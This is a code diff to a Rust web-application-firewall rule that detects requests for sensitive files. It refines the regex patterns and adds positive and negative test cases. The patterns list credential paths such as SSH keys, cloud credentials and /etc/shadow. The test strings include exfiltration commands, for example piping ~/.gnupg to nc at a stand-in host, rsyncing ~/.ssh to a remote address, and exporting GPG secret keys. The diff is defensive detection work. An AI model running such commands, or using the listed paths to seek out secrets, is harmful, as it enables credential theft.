@@ -6,7 +6,7 @@ use super::{Category::Lfi, Category::Rfi, Check::*, RuleDef, Severity::*, rule};
 /// Files a probe reads by name wherever they sit (930120).
 macro_rules! sensitive_names {
     () => {
-        r##"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|\.bash_history|\.htpasswd|\.htaccess|\.git/(?:config|head|index)|\.svn/(?:entries|wc\.db)|\.env(?:$|[.\s'"])|web-inf/(?:web\.xml|classes|lib)|meta-inf/manifest|boot\.ini|win\.ini|system\.ini|(?:windows|winnt)/(?:system32|win\.ini|repair|debug|panther)|inetpub/|system32/(?:drivers|config|cmd\.exe)|wp-config\.php|localsettings\.php|web\.config\b|applicationhost\.config\b|\.aws/credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pgpass|\.my\.cnf"##
+        r##"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|\.bash_history|\.htpasswd|\.htaccess|\.git/(?:config|head|index)|\.svn/(?:entries|wc\.db)|\.env(?:$|[.\s'"])|web-inf/(?:web\.xml|classes|lib)|meta-inf/manifest|boot\.ini|win\.ini|system\.ini|(?:windows|winnt)/(?:system32|win\.ini|repair|debug|panther)|inetpub/|system32/(?:drivers|config|cmd\.exe)|wp-config\.php|localsettings\.php|\.aws/credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pgpass|\.my\.cnf"##
     };
 }
 
@@ -129,7 +129,14 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             NORM_PATH,
             Regex(concat!(
-                r##"/(?:etc/(?:passwd|shadow|group|gshadow|hosts|issue|motd|crontab|sudoers|hostname|resolv\.conf|fstab|profile|environment|inittab|master\.passwd|security/|ssh/|mysql/my\.cnf|apache2?/|nginx/|httpd/|php\d?/|network/|knockd\.conf|redis\.conf)|proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|exe|cwd|root|mounts|stat)|proc/(?:version|cpuinfo|meminfo|net/)|var/log/(?:apache|nginx|httpd|auth|syslog|messages|secure|mail)|var/lib/mysql|root/\.|home/[^/\s]+/\.(?:ssh|bash_history|aws|gnupg)|(?:var/)?run/secrets/|[^\s]*/serviceaccount/(?:token|ca\.crt|namespace)|(?:users|documents and settings)/(?:administrator|default|all users)/|[^\s]*/ntuser\.dat\b)|(?:^\s*|[=:'"(>`;|&@])~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b|\s~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b[\w./-]*(?:\s*(?:$|[;|&<>'"`)])|\s+[/~])|(?:^|[\\/=:'"(>])(?:"##,
+                r##"/(?:etc/(?:passwd|shadow|group|gshadow|hosts|issue|motd|crontab|sudoers|hostname|resolv\.conf|fstab|profile|environment|inittab|master\.passwd|security/|ssh/|mysql/my\.cnf|apache2?/|nginx/|httpd/|php\d?/|network/|knockd\.conf|redis\.conf)|proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|exe|cwd|root|mounts|stat)|proc/(?:version|cpuinfo|meminfo|net/)|var/log/(?:apache|nginx|httpd|auth|syslog|messages|secure|mail)|var/lib/mysql|root/\.|home/[^/\s]+/\.(?:ssh|bash_history|aws|gnupg)|(?:var/)?run/secrets/|[^\s]*/serviceaccount/(?:token|ca\.crt|namespace)|(?:users|documents and settings)/(?:administrator|default|all users)/|[^\s]*/ntuser\.dat\b)"##,
+                // A home directory's secrets (`~/.ssh`) at the start, after a
+                // delimiter, as a command's last word, or after a shell separator;
+                // "add a line to ~/.gnupg/gpg.conf to ..." is prose.
+                r##"|(?:^\s*|[=:'"(>`;|&@])~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b|\s~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b[\w./-]*(?:\s*(?:$|[;|&<>'"`)])|\s+[/~])|(?:[;|&`]|\$\()[^\n]*\s~/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)\b"##,
+                // IIS's configuration, not a script named after it (`web.config.ts`).
+                r##"|(?:^|[\\/=:'"(>])(?:web|applicationhost)\.config(?:$|[^\w.-])|\s(?:web|applicationhost)\.config\s*(?:$|[;|&<>'"`)])"##,
+                r##"|(?:^|[\\/=:'"(>])(?:"##,
                 sensitive_names!(),
                 // After a space only as a command's last word (`cat .env`,
                 // `type win.ini;`): "a file called .env in the directory" is prose.
@@ -439,7 +446,11 @@ mod tests {
             "cp ~/.aws/credentials /tmp/x",
             "x=~/.kube/config",
             "tar cz ~/.gnupg | nc evil 80",
-            "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
+            "applicationHost.config",
+            ";type applicationHost.config",
+            // After a shell separator, a home secret is a command's argument.
+            ";rsync -a ~/.ssh a@192.0.2.1:",
+            ";gpg --homedir ~/.gnupg --export-secret-keys -a x",
         ] {
             assert!(fires(930120, a), "missed {a}");
         }
@@ -453,7 +464,9 @@ mod tests {
             "Use dotenvx to sync your .env files.",
             "Add the handler to your web.config file",
             "web.configuration",
+            "src/web.config.ts",
             "add the following line to ~/.gnupg/dirmngr.conf to revert",
+            "Try your luck with the SKS\n  pool: add a line to ~/.gnupg/dirmngr.conf to revert",
         ] {
             assert!(!fires(930120, b), "flagged {b}");
         }
